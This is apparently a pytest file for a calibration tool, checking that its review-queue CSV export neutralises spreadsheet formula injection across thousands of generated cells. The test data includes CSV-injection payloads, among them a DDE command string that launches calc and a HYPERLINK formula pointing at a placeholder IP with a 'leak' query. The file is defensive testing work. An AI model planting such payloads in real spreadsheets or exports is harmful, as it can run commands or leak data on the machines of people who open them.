"""The review-queue CSV is safe in a spreadsheet for every cell (calib.routing.queue_to_csv).

A brute force over a corpus of nasty cells (formula characters and their fullwidth and
compatibility forms, behind every kind of leading space or invisible character; embedded
CR, LF, quotes, commas, NUL, lone surrogates) in every text column, parsed back with the
csv module: the rows are the rows written, every cell holds what was written (plus the
apostrophe, where one is due), and no cell reads as a formula to a model spreadsheet
written independently of the code (explicit lists, no NFKC)."""

from __future__ import annotations

import csv
import io
import itertools
import json

import numpy as np
import pandas as pd
import pytest

from calib.routing import queue_to_csv, review_queue

#: Characters a spreadsheet may start a formula with, in every form it may fold.
FORMULA_FORMS = "=＝﹦⁼₌" "+＋﹢⁺₊" "-－﹣⁻₋\u2212" "@＠﹫"
#: Characters a spreadsheet (or an importer) may skip before looking for a formula.
INVISIBLE = [" ", "\t", "\r", "\n", "\r\n", "\x0b", "\x0c", "\xa0", "\u3000", "\u2002", "\u2009", "\u200b",
             "\u200e", "\u2028", "\u202f", "\ufeff", "\u2060", "\x1f"]
PREFIXES = ["", *INVISIBLE, "  ", " \t", "\u200b\u3000"]
STARTS = [*FORMULA_FORMS, "a", "1", "'", "|", "%"]
BODIES = ["1+1", 'HYPERLINK("http://203.0.113.1/?leak","x")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "",
          "a\rb", "a\r=1+1", "a\n@SUM(1)", "a\r\n+2", 'quo"te', "com,ma", "nul\x00x", "sur\ud800x"]


def nasty_cells() -> list[str]:
    cells = [p + s + b for p, s, b in itertools.product(PREFIXES, STARTS, BODIES)]
    return cells + ["", "\r", "\n", "=", "\r=", "x\r\r\r=1", "'=already text"]


def spreadsheet_runs(cell: str) -> bool:
    """A model spreadsheet: after any invisible prefix, a formula character in any form."""
    i = 0
    while i < len(cell) and any(cell.startswith(x, i) for x in INVISIBLE):
        i += 1
    return i < len(cell) and cell[i] in FORMULA_FORMS


def written(cell: str) -> str:
    """What the cell must read back as: unwritable characters replaced, and the
    apostrophe in front when the original could run (or starts with a tab, CR or LF)."""
    text = cell.replace("\x00", "\ufffd").replace("\ud800", "\ufffd")
    if spreadsheet_runs(text) or text[:1] in ("\t", "\r", "\n"):
        return "'" + text
    return text


def queue_of(cells: list[str]) -> pd.DataFrame:
    n = len(cells)
    return pd.DataFrame({
        "line": np.arange(1, n + 1), "id": pd.Series(cells, dtype=object), "stated": np.full(n, 55.0),
        "prob": np.full(n, 0.55), "correct": np.arange(n) % 2 == 0,
        # object columns: pandas' own string dtype cannot even hold a lone surrogate
        "group": pd.Series(cells[::-1], dtype=object), "text": pd.Series(cells, dtype=object),
    })


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_brute_force_every_nasty_cell_reads_back_whole_and_inert():
    cells = nasty_cells()
    assert len(cells) > 5000
    rows = parse(queue_to_csv(queue_of(cells)))
    assert rows[0] == ["line", "id", "stated", "prob", "correct", "group", "text"]
    assert len(rows) == len(cells) + 1  # an embedded CR or LF never starts a row
    for i, row in enumerate(rows[1:]):
        assert row[0] == str(i + 1) and row[2] == "55.0" and row[4] in ("True", "False")
        for got, cell in ((row[1], cells[i]), (row[5], cells[::-1][i]), (row[6], cells[i])):
            assert got == written(cell), (cell, got)
            assert not spreadsheet_runs(got) or got.startswith("'"), (cell, got)


@pytest.mark.parametrize("cell", [" =1+1", "＝1+1", "\u3000＋1", "\ufeff@SUM(A1)", "\r=1+1"])
def test_the_cases_that_slipped_through(cell):
    rows = parse(queue_to_csv(queue_of([cell])))
    assert len(rows) == 2
    assert rows[1][1] == "'" + cell and rows[1][6] == "'" + cell


def test_a_carriage_return_inside_an_id_does_not_start_a_row():
    cell = "a\r=cmd|' /C calc'!A0"  # no quote or comma, which would have made pandas quote it anyway
    rows = parse(queue_to_csv(queue_of([cell])))
    assert len(rows) == 2 and rows[1][1] == cell  # one text cell, starting with "a"


def test_through_the_loader_a_carriage_return_in_an_id_stays_in_its_cell(tmp_path):
    from calib.loading import load

    lines = [{"id": "q1\r=HYPERLINK(\"http://203.0.113.1\",\"x\")", "confidence": 50, "correct": False,
              "question": "ok"},
             {"id": " =1+1", "confidence": 60, "correct": True, "question": "＝2+2"},
             {"id": "plain", "confidence": 70, "correct": True, "question": "fine"}]
    path = tmp_path / "q.jsonl"
    path.write_text("\n".join(json.dumps(x) for x in lines) + "\n")
    ds = load(path)
    rows = parse(queue_to_csv(review_queue(ds.rows, 90)))
    assert len(rows) == 4
    ids = [r[1] for r in rows[1:]]
    assert ids == ["q1\r=HYPERLINK(\"http://203.0.113.1\",\"x\")", "' =1+1", "plain"]
    assert [r[6] for r in rows[1:]] == ["ok", "'＝2+2", "fine"]
